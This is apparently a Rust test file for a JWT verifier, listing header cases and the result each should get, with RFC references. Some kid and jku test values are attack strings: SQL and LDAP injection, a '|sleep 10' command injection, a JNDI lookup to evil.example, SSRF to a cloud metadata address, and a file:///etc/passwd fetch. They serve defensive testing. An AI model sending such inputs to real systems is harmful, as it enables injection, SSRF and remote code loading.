//! What the JOSE header may say.

use serde_json::{Value, json};

use super::{Case, first, signed, with_claims, with_header};
use crate::support::{TestKey, claims};
use crate::vectors::canonical;

pub(super) fn all() -> Vec<Case> {
    [types(), names_of_keys(), offered_keys(), semantics(), text()].into_iter().flatten().collect()
}

fn header_with(name: &str, value: Value) -> Value {
    let mut header = first().header();
    header[name] = value;
    header
}

fn header_without(name: &str) -> Value {
    let mut header = first().header();
    header.as_object_mut().unwrap().remove(name);
    header
}

fn types() -> Vec<Case> {
    let rfc = "RFC 9068 section 4, RFC 7515 section 4.1.9, V33";
    let mut cases = Vec::new();
    for typ in ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "Application/AT+JWT"] {
        cases.push(Case::new(format!("typ {typ}"), with_header(&header_with("typ", json!(typ))), "accept", rfc));
    }
    for typ in [
        "JWT",
        "jwt",
        "application/jwt",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "client-authentication+jwt",
        "passant-revocations+jwt",
        "at+jwt ",
        "at",
        "+jwt",
        "at+jwtx",
        "text/at+jwt",
        "",
    ] {
        cases.push(Case::new(format!("typ {typ:?}"), with_header(&header_with("typ", json!(typ))), "typ_not_allowed", rfc));
    }
    cases.push(Case::new("no typ", with_header(&header_without("typ")), "typ_not_allowed", rfc));
    for (what, typ) in [("a number", json!(7)), ("null", Value::Null), ("an array", json!(["at+jwt"])), ("an object", json!({}))]
    {
        cases.push(Case::new(
            format!("typ that is {what}"),
            with_header(&header_with("typ", typ)),
            "bad_header",
            "RFC 7515 section 4.1.9, V33",
        ));
    }
    for typ in ["JWT", "application/jwt", "at+jwt"] {
        cases.push(
            Case::new(
                format!("typ {typ} where the issuer does not keep to RFC 9068"),
                with_header(&header_with("typ", json!(typ))),
                "accept",
                "RFC 7519 section 5.1",
            )
            .policy("lenient"),
        );
    }
    cases.push(
        Case::new(
            "no typ where the issuer does not keep to RFC 9068",
            with_header(&header_without("typ")),
            "accept",
            "RFC 7519 section 5.1",
        )
        .policy("lenient"),
    );
    for typ in ["dpop+jwt", "logout+jwt", "secevent+jwt"] {
        cases.push(
            Case::new(
                format!("typ {typ} where the issuer does not keep to RFC 9068"),
                with_header(&header_with("typ", json!(typ))),
                "typ_not_allowed",
                "RFC 8725 section 3.11",
            )
            .policy("lenient"),
        );
    }
    cases
}

fn names_of_keys() -> Vec<Case> {
    let rfc = "RFC 8725 section 3.10, V23";
    let mut cases = Vec::new();
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "' OR 1=1--",
        "*)(uid=*",
        "|sleep 10",
        "first\0",
        "first\n",
        "",
        "First",
        "FIRST",
        "first ",
        " first",
        "fi\u{301}rst",
        "\u{1f511}",
        "https://evil.example/jwks.json#first",
        "${jndi:ldap://evil.example/a}",
    ] {
        let source = if kid.to_lowercase() == "first" { "RFC 7515 section 4.1.4, V25" } else { rfc };
        cases.push(Case::new(format!("kid {kid:?}"), with_header(&header_with("kid", json!(kid))), "unknown_key", source));
    }
    cases.push(Case::new(
        "a kid of 129 characters",
        with_header(&header_with("kid", json!("x".repeat(129)))),
        "unknown_key",
        rfc,
    ));
    cases.push(Case::new("a kid of 10 KiB", with_header(&header_with("kid", json!("x".repeat(10_240)))), "too_large", rfc));
    for (what, kid) in
        [("a number", json!(1)), ("null", Value::Null), ("an array", json!(["first"])), ("an object", json!({ "kid": "first" }))]
    {
        cases.push(Case::new(format!("kid that is {what}"), with_header(&header_with("kid", kid)), "bad_header", rfc));
    }
    let oidc = "OpenID Connect Core 1.0 section 10.1, V24";
    let nameless = with_header(&header_without("kid"));
    cases.push(Case::new("no kid", nameless.clone(), "missing_kid", oidc));
    cases.push(Case::new("no kid, one key, and the policy allows it", nameless.clone(), "accept", oidc).policy("key not named"));
    cases.push(
        Case::new("no kid, two keys, and the policy allows it for one", nameless, "missing_kid", oidc)
            .policy("key not named")
            .keys("first and second"),
    );
    cases
}

fn offered_keys() -> Vec<Case> {
    let rfc = "RFC 8725 section 3.10";
    let second = TestKey::second();
    let mut cases = Vec::new();
    for (name, value, id) in [
        ("jwk", second.jwk(), "V20"),
        ("jku", json!("https://evil.example/jwks.json"), "V21"),
        ("jku", json!("http://169.254.169.254/latest/meta-data"), "V21"),
        ("jku", json!("file:///etc/passwd"), "V21"),
        ("x5u", json!("https://evil.example/chain.pem"), "V22"),
        ("x5c", json!(["MIIB"]), "V22"),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA"), "V22"),
        ("x5t#S256", json!("A".repeat(43)), "V22"),
    ] {
        let source: &'static str = match id {
            "V20" => "RFC 8725 section 3.10, V20",
            "V21" => "RFC 8725 section 3.10, V21",
            _ => "RFC 8725 section 3.10, V22",
        };
        let header = header_with(name, value.clone());
        let shown = canonical(&value, 0, false);
        let shown = shown.get(..40).unwrap_or(&shown);
        cases.push(Case::new(format!("{name} {shown} beside a good signature"), with_header(&header), "accept", source));
        let forged = second.sign_text(&canonical(&header, 0, false), &canonical(&claims(), 0, false));
        cases.push(Case::new(format!("{name} {shown} of the forger"), forged, "bad_signature", source));
    }
    let mut own = second.header();
    own["jwk"] = second.jwk();
    cases.push(Case::new(
        "a key of the forger's own, by its own name",
        second.sign_text(&canonical(&own, 0, false), &canonical(&claims(), 0, false)),
        "unknown_key",
        rfc,
    ));
    cases
}

fn semantics() -> Vec<Case> {
    let mut cases = Vec::new();
    for (what, crit) in [
        ("exp", json!(["exp"])),
        ("b64", json!(["b64"])),
        ("an unknown name", json!(["x"])),
        ("nothing", json!([])),
        ("a string", json!("exp")),
        ("null", Value::Null),
        ("one name twice", json!(["x", "x"])),
        ("alg", json!(["alg"])),
        ("an object", json!({})),
        ("numbers", json!([1])),
    ] {
        cases.push(Case::new(
            format!("crit with {what}"),
            with_header(&header_with("crit", crit)),
            "critical_header",
            "RFC 7515 section 4.1.11, V30, V31",
        ));
    }
    for (what, b64) in [("false", json!(false)), ("true", json!(true)), ("a text", json!("false"))] {
        cases.push(Case::new(
            format!("b64 {what} without crit"),
            with_header(&header_with("b64", b64)),
            "unencoded_payload",
            "RFC 7797 section 6 and 7, V32",
        ));
    }
    let mut both = header_with("b64", json!(false));
    both["crit"] = json!(["b64"]);
    cases.push(Case::new("b64 false with crit", with_header(&both), "critical_header", "RFC 7797 section 6, V32"));
    cases.push(Case::new("zip DEF", with_header(&header_with("zip", json!("DEF"))), "compressed", "RFC 8725 section 3.6, V35"));
    cases.push(Case::new(
        "enc in a JWS",
        with_header(&header_with("enc", json!("A128GCM"))),
        "encrypted",
        "RFC 7516 section 9, V15",
    ));
    for cty in ["JWT", "jwt", "application/jwt"] {
        cases.push(Case::new(
            format!("cty {cty}"),
            with_header(&header_with("cty", json!(cty))),
            "nested",
            "RFC 7519 section 5.2, V17",
        ));
    }
    cases.push(Case::new(
        "cty of something else",
        with_header(&header_with("cty", json!("json"))),
        "accept",
        "RFC 7515 section 4.1.10",
    ));
    cases.push(Case::new(
        "a header member that nobody knows",
        with_header(&header_with("x", json!({ "y": [1] }))),
        "accept",
        "RFC 7515 section 4.2",
    ));
    for (what, alg) in
        [("missing", None), ("null", Some(Value::Null)), ("a number", Some(json!(7))), ("an array", Some(json!(["RS256"])))]
    {
        let header = alg.map_or_else(|| header_without("alg"), |alg| header_with("alg", alg));
        let expect = if what == "missing" { "alg_not_allowed" } else { "bad_header" };
        cases.push(Case::new(format!("alg that is {what}"), with_header(&header), expect, "RFC 7515 section 4.1.1, V07"));
    }
    cases
}

fn text() -> Vec<Case> {
    let header = canonical(&first().header(), 0, false);
    let inside = header.strip_prefix('{').unwrap().strip_suffix('}').unwrap();
    let payload = canonical(&claims(), 0, false);
    let with = |header: &str| signed(header, &payload);
    let mut cases = vec![
        Case::new("white space in the header", with(&format!("{{ {inside}\n}}")), "accept", "RFC 8259 section 2, V38"),
        Case::new(
            "an escaped name in the header",
            with(&header.replace("\"kid\"", "\"\\u006bid\"")),
            "accept",
            "RFC 8259 section 7",
        ),
        Case::new(
            "a header of more than 1 KiB",
            with(&format!("{{{inside},\"x\":\"{}\"}}", "x".repeat(1_024))),
            "too_large",
            "V39",
        ),
        Case::new(
            "a hundred unknown header members",
            with(&format!("{{{inside}{}}}", (0..100).map(|id| format!(",\"m{id}\":{id}")).collect::<String>())),
            "too_large",
            "V39",
        ),
        Case::new(
            "forty unknown header members",
            with(&format!("{{{inside}{}}}", (0..40).map(|id| format!(",\"m{id}\":{id}")).collect::<String>())),
            "accept",
            "RFC 7515 section 4.2",
        ),
    ];
    for (what, text) in [
        ("an array", "[]".into()),
        ("a string", "\"alg\"".into()),
        ("a number", "7".into()),
        ("cut off", header[..header.len() - 1].to_owned()),
        ("a comma too many", format!("{{{inside},}}")),
        ("a comment", format!("{{{inside}//\n}}")),
        ("NaN", format!("{{{inside},\"x\":NaN}}")),
        ("a byte order mark", format!("\u{feff}{header}")),
        ("a lone surrogate", format!("{{{inside},\"x\":\"\\udc00\"}}")),
        ("something behind it", format!("{header} 1")),
        ("single quotation marks", header.replace('"', "'")),
    ] {
        cases.push(Case::new(
            format!("a header that is no JSON object: {what}"),
            with(&text),
            "bad_json",
            "RFC 7515 section 4, RFC 8259, V37",
        ));
    }
    for (what, member) in [
        ("alg", "\"alg\":\"RS256\""),
        ("kid", "\"kid\":\"first\""),
        ("typ", "\"typ\":\"at+jwt\""),
        ("alg, once with an escape", "\"\\u0061lg\":\"none\""),
    ] {
        cases.push(Case::new(
            format!("{what} twice in the header"),
            with(&format!("{{{inside},{member}}}")),
            "duplicate_member",
            "RFC 7515 section 4, V36",
        ));
    }
    cases.push(Case::new("an empty header object", with("{}"), "alg_not_allowed", "RFC 7515 section 4.1.1, V37"));
    // Its header is judged before its payload is: nothing of a payload counts below a header that does not.
    cases.push(Case::new(
        "claims below no header at all",
        with_claims(&claims()).split_once('.').unwrap().1.to_owned(),
        "not_compact",
        "RFC 7515 section 7.1, V40",
    ));
    cases
}
